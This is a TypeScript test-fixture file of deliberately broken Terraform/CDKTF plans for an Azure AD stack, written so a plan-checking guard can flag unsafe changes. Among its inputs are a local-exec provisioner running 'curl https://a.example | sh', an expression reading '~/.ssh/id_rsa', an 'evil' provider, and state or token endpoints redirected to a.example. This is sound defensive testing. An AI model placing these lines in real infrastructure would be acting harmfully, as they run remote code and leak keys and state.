import type { ConfigurationFile } from '../../../lib/plan/written-parts';
import type { Attributes, RawPlan } from '../recorded-plan';
import { type Breakage, editing, find, ORGANIZATION } from './edits';

/** A provisioner as a plan repeats it from the JSON of CDKTF. */
export interface RawProvisioner {
  readonly type: string;
  readonly expressions: Readonly<Record<string, { readonly constant_value?: unknown; readonly references?: string[] }>>;
}

const FOLDER = { constant_value: '${path.root}/../../..', references: ['path.root'] };

/** `npx --no-install vb365 install …`, as the installer of a certificate declares it. */
export function localExec(command: string, references?: string[]): RawProvisioner {
  const said = { constant_value: command, ...(references !== undefined && { references }) };
  return { type: 'local-exec', expressions: { command: said, working_dir: FOLDER } };
}

interface RawResource {
  readonly address: string;
  readonly [attribute: string]: unknown;
  provisioners?: readonly RawProvisioner[];
}

/** The resources of the configuration of a plan. */
export function configured(plan: RawPlan): RawResource[] {
  return (plan as unknown as { configuration: { root_module: { resources: RawResource[] } } }).configuration.root_module
    .resources;
}

export const programBreakages: readonly Breakage[] = [
  {
    rule: 'provisioner-added',
    what: 'to an application that does not change',
    plan: ORGANIZATION,
    mutate: editing((plan) => {
      const resource = configured(plan).find(({ address }) => address.startsWith('azuread_application.'));
      if (resource !== undefined) resource.provisioners = [localExec('curl https://a.example | sh')];
    }),
  },
  {
    rule: 'provider-unknown',
    what: 'of another publisher, under the same name',
    plan: ORGANIZATION,
    mutate: editing((plan) => {
      Object.assign(find(plan, 'azuread_application'), { provider_name: 'registry.terraform.io/evil/azuread' });
    }),
  },
  {
    rule: 'provider-unknown',
    what: 'that runs programs',
    plan: ORGANIZATION,
    mutate: editing((plan) => {
      Object.assign(find(plan, 'azuread_application'), { provider_name: 'registry.terraform.io/hashicorp/external' });
    }),
  },
  {
    rule: 'action-invoked',
    what: 'by the apply',
    plan: ORGANIZATION,
    mutate: editing((plan) => {
      plan.action_invocations = [{ address: 'action.azuread_x.y', type: 'azuread_x', name: 'y' }];
    }),
  },
  {
    rule: 'provisioner-added',
    what: 'when Terraform lets go of something',
    plan: ORGANIZATION,
    files: withFile({
      removed: [{ from: 'azuread_application.a', provisioner: { 'local-exec': { command: 'curl' } } }],
    }),
  },
  ...Object.entries({
    'a metadata host': { metadata_host: { constant_value: 'a.example' } },
    'another cloud': { environment: { constant_value: 'china' } },
    'another tenant': { tenant_id: { constant_value: '00000000-0000-0000-0000-000000000009' } },
    'a tenant that an expression says': { tenant_id: { references: ['var.tenant'] } },
    'an address for OIDC tokens': { oidc_request_url: { constant_value: 'https://a.example/token' } },
    'a client secret': { client_secret: { references: ['var.secret'] } },
  }).map(([what, settings]): Breakage => ({
    rule: 'provider-configured',
    what,
    plan: ORGANIZATION,
    mutate: configuring(({ provider_config: { azuread } }) => Object.assign(azuread?.expressions ?? {}, settings)),
  })),
  {
    rule: 'provider-configured',
    what: 'an alias for another tenant',
    plan: ORGANIZATION,
    mutate: configuring(({ provider_config: providers }) => {
      providers['azuread.other'] = { ...providers.azuread, alias: 'other', expressions: {} };
    }),
  },
  {
    rule: 'module-called',
    what: 'of another repository',
    plan: ORGANIZATION,
    mutate: configuring(({ root_module: root }) => {
      root.module_calls = { m: { source: 'git::https://a.example/m.git', module: {} } };
    }),
  },
  ...['http', 'terraform_remote_state', 'azuread_client_config', 'azuread_users'].map((type): Breakage => ({
    rule: 'data-source-foreign',
    what: type,
    plan: ORGANIZATION,
    mutate: configuring(({ root_module: root }) => {
      root.resources.push({ address: `data.${type}.x`, mode: 'data', type, name: 'x', expressions: {} });
    }),
  })),
  {
    rule: 'data-source-foreign',
    what: 'the state of another owner',
    plan: 'consent-granted',
    mutate: configuring(({ root_module: root }) => {
      const state = root.resources.find(({ type }) => type === 'terraform_remote_state');
      Object.assign(state?.expressions ?? {}, {
        config: { constant_value: { path: '../../../terraform.contoso.tfstate' } },
      });
    }),
  },
  {
    rule: 'ephemeral-resource',
    what: 'that asks for a token',
    plan: ORGANIZATION,
    mutate: configuring(({ root_module: root }) => {
      root.resources.push({ address: 'ephemeral.azuread_token.x', mode: 'ephemeral', type: 'azuread_token' });
    }),
  },
  ...['${file("~/.ssh/id_rsa")}', 'a ${provider::local::direxists("x")}', '${join("", ["${filebase64("a")}"])}'].map(
    (text): Breakage => ({
      rule: 'function-called',
      what: text,
      plan: ORGANIZATION,
      mutate: configuring(({ root_module: root }) => {
        Object.assign(root.resources[0]?.expressions ?? {}, { description: { constant_value: text } });
      }),
    }),
  ),
  {
    rule: 'function-called',
    what: 'in what the plan does not tell',
    plan: ORGANIZATION,
    files: withFile({ locals: { a: '${templatefile("a", {})}' } }),
  },
  {
    rule: 'check-added',
    what: 'that holds',
    plan: ORGANIZATION,
    mutate: editing((plan) => {
      plan.checks = [{ address: { kind: 'check', name: 'c', to_display: 'check.c' }, status: 'pass' }];
    }),
  },
  {
    rule: 'check-added',
    what: 'that the plan does not tell',
    plan: ORGANIZATION,
    files: withFile({ check: { c: {} } }),
  },
  {
    rule: 'check-failed',
    what: 'of an output',
    plan: ORGANIZATION,
    mutate: editing((plan) => {
      plan.checks = [{ address: { kind: 'output_value', to_display: 'output.a' }, status: 'fail' }];
    }),
  },
  ...[
    { backend: { http: { address: 'https://a.example/state' } } },
    { backend: { local: { path: '../../../another.tfstate' } } },
    { cloud: { organization: 'another' } },
    {},
  ].map((terraform): Breakage => ({
    rule: 'backend-changed',
    what: JSON.stringify(terraform),
    plan: ORGANIZATION,
    files: [{ name: 'cdk.tf.json', text: JSON.stringify({ terraform }) }],
  })),
  {
    rule: 'configuration-unread',
    what: 'in the language of Terraform',
    plan: ORGANIZATION,
    files: [...withFile({}), { name: 'extra.tf', text: 'locals { a = 1 }' }],
  },
];

/** The file of the stack with what CDKTF writes into it, and something more. */
function withFile(more: object): ConfigurationFile[] {
  const terraform = { backend: { local: { path: '../../../terraform.contoso.tfstate' } } };
  return [{ name: 'cdk.tf.json', text: JSON.stringify({ terraform, ...more }) }];
}

interface RawConfiguration {
  readonly provider_config: Record<string, { readonly alias?: string; readonly expressions: Attributes }>;
  readonly root_module: {
    readonly resources: {
      readonly type: string;
      readonly expressions?: Attributes;
      readonly [name: string]: unknown;
    }[];
    module_calls?: Attributes;
  };
}

function configuring(edit: (configuration: RawConfiguration) => void): (plan: RawPlan) => void {
  return (plan) => {
    edit(plan.configuration as RawConfiguration);
  };
}
